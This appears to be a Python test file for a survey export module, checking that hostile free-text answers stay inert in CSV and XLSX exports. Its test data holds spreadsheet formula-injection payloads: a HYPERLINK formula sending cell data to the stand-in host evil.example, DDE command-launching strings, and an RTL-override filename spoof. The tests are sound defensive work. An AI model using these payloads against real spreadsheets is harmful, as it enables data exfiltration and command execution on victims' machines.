"""Hostile free text stays inert text in CSV and XLSX cells."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from survey.exports.safety import csv_text
from tests.survey.exports.conftest import unzip

LONG = "Lang tekst. " * 5000
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "rtl_override": "Hei \u202efdp.exe",
    "long": LONG,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_csv_cell_never_starts_like_a_formula(name) -> None:
    cell = csv_text(HOSTILE[name])
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "\u202e" not in cell


@pytest.fixture
def hostile_project(small_project, session, add_response):
    """The small project, plus one parent answer per hostile string in the free-text item."""
    round_ = small_project.rounds[0]
    school = small_project.schools[0]
    version = round_.instrument_for("parent")
    for text in HOSTILE.values():
        add_response(round_, school, None, version, {"kommentar": text})
    return small_project


def test_hostile_free_text_is_inert_in_the_long_csv(hostile_project, export, tmp_path) -> None:
    folder = unzip(export(hostile_project, "zip", tmp_path, include_free_text=True), tmp_path / "p")
    with (folder / "data_long.csv").open(encoding="utf-8", newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file) if row["text"]]
    for name, text in HOSTILE.items():
        expected = csv_text(text)
        assert expected in texts, name
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert LONG.strip() in {t.strip() for t in texts}  # CSV keeps very long text whole


def test_hostile_free_text_is_a_quoted_string_cell_in_xlsx(
    hostile_project, export, tmp_path
) -> None:
    book = openpyxl.load_workbook(export(hostile_project, "xlsx", tmp_path, include_free_text=True))
    cells = [row[3] for row in book["free_text"].iter_rows(min_row=2)]
    # XML cannot hold a bare carriage return; xlsxwriter escapes it as Excel does.
    by_text = {cell.value.replace("_x000D_", "\r"): cell for cell in cells}
    for name in ("hyperlink", "plus", "at", "minus", "tab", "carriage_return"):
        cell = by_text[HOSTILE[name]]
        assert cell.data_type == "s", name
        assert cell.quotePrefix, name
    assert "Hei <U+202E>fdp.exe" in by_text
    assert max(len(v) for v in by_text) <= 32767


def test_the_xlsx_workbook_holds_no_formula_at_all(hostile_project, export, tmp_path) -> None:
    book = openpyxl.load_workbook(export(hostile_project, "xlsx", tmp_path, include_free_text=True))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
